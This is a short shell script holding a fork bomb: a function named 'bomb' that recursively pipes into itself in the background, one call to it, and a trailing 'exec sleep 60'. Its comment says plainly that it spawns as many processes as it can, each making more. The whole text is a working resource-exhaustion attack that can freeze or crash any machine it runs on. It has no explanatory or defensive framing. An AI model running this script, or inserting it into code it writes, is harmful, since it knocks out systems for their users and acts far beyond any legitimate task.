# As many processes as there can be, and each makes more.
bomb() { bomb | bomb & }
bomb
exec sleep 60
